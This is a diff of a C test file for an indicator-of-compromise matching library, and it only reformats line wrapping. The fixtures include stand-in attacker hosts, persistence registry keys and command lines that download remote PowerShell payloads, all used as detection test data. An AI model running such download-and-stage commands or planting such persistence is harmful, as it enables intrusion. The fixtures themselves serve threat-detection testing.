@@ -40,9 +40,17 @@ static void test_parser(rh_ctx *ctx)
         "[ipv6-addr:value = '2001:db8::1']",
     };
     static const char *const invalid[] = {
-        "",        "[file:name = 'x'",      "[file:name 'x']",  "[file:name = 'x]",
-        "file:name = 'x'", "[file:name = 'a\\q']", "[:name = 'x']", "[file:name = 'x'] AND",
-        "[file:name = 'x'] junk", "[file:name IN ()]", "[file:name = 'x' !]",
+        "",
+        "[file:name = 'x'",
+        "[file:name 'x']",
+        "[file:name = 'x]",
+        "file:name = 'x'",
+        "[file:name = 'a\\q']",
+        "[:name = 'x']",
+        "[file:name = 'x'] AND",
+        "[file:name = 'x'] junk",
+        "[file:name IN ()]",
+        "[file:name = 'x' !]",
     };
     static const char *const unsupported[] = {
         "[file:size > 10]",
@@ -77,9 +85,9 @@ static void test_parser(rh_ctx *ctx)
     RH_CHECK_EQ(x->kind, IOC_N_OR);
     RH_CHECK_EQ(x->b->kind, IOC_N_AND);
     /* unescaping and registry key normalisation */
-    RH_CHECK_EQ(parse(ctx, "[windows-registry-key:key = 'HKEY_CURRENT_USER\\\\Software\\\\Run']",
-                      &x, &e),
-                RH_OK);
+    RH_CHECK_EQ(
+        parse(ctx, "[windows-registry-key:key = 'HKEY_CURRENT_USER\\\\Software\\\\Run']", &x, &e),
+        RH_OK);
     RH_CHECK_STR(x->vals[0], "HKCU\\SOFTWARE\\RUN");
     RH_CHECK_EQ(parse(ctx, "[file:name = 'it\\'s']", &x, &e), RH_OK);
     RH_CHECK_STR(x->vals[0], "it's");
@@ -117,7 +125,8 @@ static void test_detect(void)
     RH_CHECK_EQ(ioc_detect("evil.example", 12), IOC_P_DOMAIN);
     RH_CHECK_EQ(ioc_detect("evil.exe", 8), IOC_P_FILE_NAME);
     RH_CHECK_EQ(ioc_detect("10.1.2.3", 8), IOC_P_IPV4);
-    RH_CHECK_EQ(ioc_detect("10.1.2.300", 10), IOC_P_DOMAIN == ioc_detect("10.1.2.300", 10) ? IOC_P_DOMAIN : -1);
+    RH_CHECK_EQ(ioc_detect("10.1.2.300", 10),
+                IOC_P_DOMAIN == ioc_detect("10.1.2.300", 10) ? IOC_P_DOMAIN : -1);
     RH_CHECK_EQ(ioc_detect("2001:db8::1", 11), IOC_P_IPV6);
     RH_CHECK_EQ(ioc_detect("HKLM\\Software\\X", 15), IOC_P_REG_KEY);
     RH_CHECK_EQ(ioc_detect("C:\\x\\y.exe", 10), IOC_P_FILE_PATH);
@@ -158,14 +167,23 @@ static void test_stix(rh_ctx *ctx)
     const rh_ioc_stats *st = rh_ioc_get_stats(s);
     const char *id;
     rh_ioc_obs o1[] = {
-        {RH_IOC_OBS_REG_KEY, "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", sizeof("HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run") - 1, "key path"},
+        {RH_IOC_OBS_REG_KEY,
+         "HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+         sizeof("HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run") - 1,
+         "key path"},
         {RH_IOC_OBS_VALUE_NAME, "WinUpdate", sizeof("WinUpdate") - 1, "value name"}};
     rh_ioc_obs o2[] = {{RH_IOC_OBS_VALUE_NAME, "WinUpdate", sizeof("WinUpdate") - 1, "value name"}};
-    rh_ioc_obs o3[] = {{RH_IOC_OBS_PATH, "C:\\ProgramData\\SVCH0ST.EXE", sizeof("C:\\ProgramData\\SVCH0ST.EXE") - 1, "target"}};
-    rh_ioc_obs o4[] = {{RH_IOC_OBS_COMMAND_LINE, "powershell iwr http://x.example/u.ps1", sizeof("powershell iwr http://x.example/u.ps1") - 1, "cmd"}};
-    rh_ioc_obs o5[] = {{RH_IOC_OBS_HOSTNAME, "a.stage.evil-c2.example", sizeof("a.stage.evil-c2.example") - 1, "dns"}};
-    rh_ioc_obs o6[] = {{RH_IOC_OBS_PATH, "C:\\x\\vmtoolsd.exe", sizeof("C:\\x\\vmtoolsd.exe") - 1, "target"}};
-    rh_ioc_obs o7[] = {{RH_IOC_OBS_HASHES, "SHA1=00,MD5=92EB5FFEE6AE2FEC3AD71C777531578F,IMPHASH=00", sizeof("SHA1=00,MD5=92EB5FFEE6AE2FEC3AD71C777531578F,IMPHASH=00") - 1, "hashes"}};
+    rh_ioc_obs o3[] = {{RH_IOC_OBS_PATH, "C:\\ProgramData\\SVCH0ST.EXE",
+                        sizeof("C:\\ProgramData\\SVCH0ST.EXE") - 1, "target"}};
+    rh_ioc_obs o4[] = {{RH_IOC_OBS_COMMAND_LINE, "powershell iwr http://x.example/u.ps1",
+                        sizeof("powershell iwr http://x.example/u.ps1") - 1, "cmd"}};
+    rh_ioc_obs o5[] = {{RH_IOC_OBS_HOSTNAME, "a.stage.evil-c2.example",
+                        sizeof("a.stage.evil-c2.example") - 1, "dns"}};
+    rh_ioc_obs o6[] = {
+        {RH_IOC_OBS_PATH, "C:\\x\\vmtoolsd.exe", sizeof("C:\\x\\vmtoolsd.exe") - 1, "target"}};
+    rh_ioc_obs o7[] = {
+        {RH_IOC_OBS_HASHES, "SHA1=00,MD5=92EB5FFEE6AE2FEC3AD71C777531578F,IMPHASH=00",
+         sizeof("SHA1=00,MD5=92EB5FFEE6AE2FEC3AD71C777531578F,IMPHASH=00") - 1, "hashes"}};
     RH_CHECK_EQ(st->indicators, 7);
     RH_CHECK_EQ(st->expired, 1);
     RH_CHECK_EQ(st->revoked, 1);
@@ -197,13 +215,22 @@ static void test_misp(rh_ctx *ctx)
     const rh_ioc_stats *st = rh_ioc_get_stats(s);
     const char *id;
     rh_ioc_obs o1[] = {
-        {RH_IOC_OBS_REG_KEY, "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe", sizeof("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe") - 1, "key"},
+        {RH_IOC_OBS_REG_KEY,
+         "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe",
+         sizeof("HKLM\\SOFTWARE\\Microsoft\\Windows "
+                "NT\\CurrentVersion\\SilentProcessExit\\notepad.exe") -
+             1,
+         "key"},
         {RH_IOC_OBS_VALUE_NAME, "MonitorProcess", sizeof("MonitorProcess") - 1, "name"},
-        {RH_IOC_OBS_VALUE_DATA, "C:\\Users\\Public\\Libraries\\wermon.exe", sizeof("C:\\Users\\Public\\Libraries\\wermon.exe") - 1, "data"}};
+        {RH_IOC_OBS_VALUE_DATA, "C:\\Users\\Public\\Libraries\\wermon.exe",
+         sizeof("C:\\Users\\Public\\Libraries\\wermon.exe") - 1, "data"}};
     rh_ioc_obs o2[] = {{RH_IOC_OBS_IP, "203.0.113.50", sizeof("203.0.113.50") - 1, "conn"}};
-    rh_ioc_obs o3[] = {{RH_IOC_OBS_HASHES, "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae", sizeof("2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae") - 1, "h"}};
+    rh_ioc_obs o3[] = {
+        {RH_IOC_OBS_HASHES, "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae",
+         sizeof("2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae") - 1, "h"}};
     rh_ioc_obs o4[] = {
-        {RH_IOC_OBS_REG_KEY, "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", sizeof("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon") - 1, "key"},
+        {RH_IOC_OBS_REG_KEY, "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
+         sizeof("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon") - 1, "key"},
         {RH_IOC_OBS_VALUE_NAME, "Userinit", sizeof("Userinit") - 1, "name"}};
     RH_CHECK_EQ(st->indicators, 9); /* 6 attributes + registry-key object + 2 file attributes */
     RH_CHECK_EQ(st->revoked, 1);    /* deleted attribute */
@@ -222,12 +249,17 @@ static void test_list(rh_ctx *ctx)
     rh_ioc_set *s = load(ctx, "data/ioc/list.txt", NOW);
     const rh_ioc_stats *st = rh_ioc_get_stats(s);
     const char *id;
-    rh_ioc_obs o1[] = {{RH_IOC_OBS_COMMAND_LINE, "curl https://cdn.example.net/payload/stage2.ps1 -o x", sizeof("curl https://cdn.example.net/payload/stage2.ps1 -o x") - 1, "cmd"}};
-    rh_ioc_obs o2[] = {{RH_IOC_OBS_HOSTNAME, "www.evil-c2.example", sizeof("www.evil-c2.example") - 1, "dns"}};
+    rh_ioc_obs o1[] = {{RH_IOC_OBS_COMMAND_LINE,
+                        "curl https://cdn.example.net/payload/stage2.ps1 -o x",
+                        sizeof("curl https://cdn.example.net/payload/stage2.ps1 -o x") - 1, "cmd"}};
+    rh_ioc_obs o2[] = {
+        {RH_IOC_OBS_HOSTNAME, "www.evil-c2.example", sizeof("www.evil-c2.example") - 1, "dns"}};
     rh_ioc_obs o3[] = {
-        {RH_IOC_OBS_REG_KEY, "HKU\\S-1-5-21-9\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", sizeof("HKU\\S-1-5-21-9\\Software\\Microsoft\\Windows\\CurrentVersion\\Run") - 1, "key"},
+        {RH_IOC_OBS_REG_KEY, "HKU\\S-1-5-21-9\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+         sizeof("HKU\\S-1-5-21-9\\Software\\Microsoft\\Windows\\CurrentVersion\\Run") - 1, "key"},
         {RH_IOC_OBS_VALUE_NAME, "WinUpdate", sizeof("WinUpdate") - 1, "name"}};
-    rh_ioc_obs o4[] = {{RH_IOC_OBS_REG_KEY, "HKLM\\SYSTEM\\ControlSet001\\Services\\WinNetSvc", sizeof("HKLM\\SYSTEM\\ControlSet001\\Services\\WinNetSvc") - 1, "key"}};
+    rh_ioc_obs o4[] = {{RH_IOC_OBS_REG_KEY, "HKLM\\SYSTEM\\ControlSet001\\Services\\WinNetSvc",
+                        sizeof("HKLM\\SYSTEM\\ControlSet001\\Services\\WinNetSvc") - 1, "key"}};
     rh_ioc_obs o5[] = {{RH_IOC_OBS_IP, "2001:DB8::7", sizeof("2001:DB8::7") - 1, "ip"}};
     RH_CHECK_EQ(st->indicators, 12);
     RH_CHECK_EQ(st->invalid, 1);
@@ -249,8 +281,7 @@ static void test_errors(rh_ctx *ctx)
     RH_CHECK_EQ(rh_ioc_create(ctx, &o, &s), RH_OK);
     RH_CHECK_EQ(rh_ioc_load_mem(s, "bad.json", "{\"type\": \"bundle\", \"objects\": [ {", 33),
                 RH_ERR_FORMAT);
-    RH_CHECK_EQ(rh_ioc_load_mem(s, "three", "a.example\nb.example\nc.example\n", 30),
-                RH_ERR_LIMIT);
+    RH_CHECK_EQ(rh_ioc_load_mem(s, "three", "a.example\nb.example\nc.example\n", 30), RH_ERR_LIMIT);
     RH_CHECK_EQ(rh_ioc_load_file(s, "data/ioc/no-such-file"), RH_ERR_IO);
     RH_CHECK_EQ(rh_ioc_finish(s), RH_OK);
     RH_CHECK_EQ(rh_ioc_load_mem(s, "late", "x.example\n", 10), RH_ERR_ARG);
